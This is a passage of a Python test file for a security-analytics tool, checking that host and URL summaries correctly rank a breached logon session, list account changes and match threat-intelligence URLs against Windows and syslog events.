    created = [e for e in windows_events if e["EventID"] == "4688"]
    sessions = Counter(e["SubjectLogonId"] for e in created)  # TargetLogonId is 0x0 in all
    assert len(res["processes_with_cluster"]) == len(created)
    ranking = res["session_rarity"]
    assert dict(zip(ranking["LogonId"], ranking["Processes"], strict=True)) == dict(sessions)
    breach = next(
        e for e in windows_events if e["EventID"] == "4624" and e["IpAddress"] == RDP_ATTACKER
    )
    assert ranking["LogonId"].iloc[0] == breach["TargetLogonId"]
    assert ranking["Account"].iloc[0] == f"WIN-E2E01\\{BREACHED}"
    assert res["process_clusters"]["Processes"].sum() == len(created)


def test_host_summary_on_the_windows_host(run, logs, windows_events):
    res = run("host_summary", host="WIN-E2E01")
    assert res.status == "ok"
    changes = res["account_changes"]
    in_files = Counter(e["EventID"] for e in windows_events if e["EventID"] in ("4720", "4732"))
    assert dict(Counter(changes["EventID"].astype(str))) == dict(in_files)
    assert f"WIN-E2E01\\{NEW_ACCOUNT}" in set(changes["TargetAccount"]) | set(changes["Member"])
    # the URL only appears inside an encoded PowerShell command
    listed = {r["Url"] for r in csv_rows(logs["ti"]) if r["Url"]}
    hidden = {u for u in listed if any(u in c for c in _command_lines(windows_events))}
    ti = res["cmdline_ti"]
    assert set(ti.loc[ti["Result"], "Ioc"]) == hidden == {URL}
    alerts = [
        r["DisplayName"]
        for r in csv_rows(logs["alerts"])
        if any(e.get("HostName") == "WIN-E2E01" for e in json.loads(r["Entities"]))
    ]
    assert sorted(res["related_alerts"]["AlertDisplayName"]) == sorted(alerts)


def _url_evidence(logs, windows_events) -> tuple[list[str], list[str]]:
    syslog = [x for x in logs["auth"].read_text().splitlines() if URL_HOST in x]
    windows = [c for c in _command_lines(windows_events) if URL_HOST in c]
    return syslog, windows


def test_url_summary_finds_the_url_in_ti_alerts_and_log_lines(run, logs, windows_events):
    res = run("url_summary", url=URL)
    assert res.status == "ok"
    ti = res["ti_results"]
    assert set(ti.loc[ti["Result"], "Ioc"]) == {r["Url"] for r in csv_rows(logs["ti"]) if r["Url"]}
    naming = [
        r["DisplayName"]
        for r in csv_rows(logs["alerts"])
        if any(e.get("Url") == URL for e in json.loads(r["Entities"]))
    ]
    assert res["alert_names"] == naming
    syslog, windows = _url_evidence(logs, windows_events)
    sightings = res["sightings"]
    assert len(sightings) == len(syslog) + len(windows) == 2
    assert set(sightings["Computer"]) == {LNX_HOST, WIN_HOST}


def test_url_summary_names_each_host_once(run):
    res = run("url_summary", url=URL)
    short = {h.split(".")[0].upper() for h in res["hosts"]["Host"]}
    assert len(res["hosts"]) == len(short) == 2
